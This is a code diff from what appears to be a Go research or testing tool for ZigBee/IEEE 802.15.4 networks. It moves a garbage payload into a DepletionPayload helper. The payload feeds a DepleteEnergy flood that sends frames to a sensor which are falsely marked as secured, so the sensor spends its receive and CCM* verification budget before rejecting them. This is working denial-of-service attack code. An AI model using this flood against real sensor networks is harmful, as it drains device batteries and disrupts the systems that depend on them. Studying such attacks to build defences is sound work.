@@ -230,6 +230,15 @@ func (t *Tracker) JoinNetwork(info *NetworkInfo) (uint16, error) {
 	return assigned, nil
 }
 
+// DepletionPayload builds the i-th garbage payload of the depletion
+// flood: sized and tagged to pass for a secured application frame, so
+// the victim spends the full receive (and CCM* verification) budget
+// before discarding it. Shared by the tracker and the campaign engine's
+// energy-depletion scenarios.
+func DepletionPayload(i int) []byte {
+	return []byte{0x05, byte(i), byte(i >> 8), 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0x00, 0x00, 0x00, 0x00, 0x00}
+}
+
 // DepleteEnergy floods the sensor with garbage frames addressed to it —
 // the Ghost-in-ZigBee energy-depletion denial of service the paper cites
 // ([30]) as remaining possible even on cryptographically secured
@@ -246,7 +255,7 @@ func (t *Tracker) DepleteEnergy(info *NetworkInfo, sensor uint16, frames int) er
 		t.seq++
 		// Looks secured, fails authentication: maximum victim cost.
 		frame := ieee802154.NewDataFrame(t.seq, info.PAN, sensor, info.Coordinator,
-			[]byte{0x05, byte(i), byte(i >> 8), 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0x00, 0x00, 0x00, 0x00, 0x00}, false)
+			DepletionPayload(i), false)
 		frame.Security = true
 		if _, err := t.sendFrame(frame, info.Channel); err != nil {
 			return err
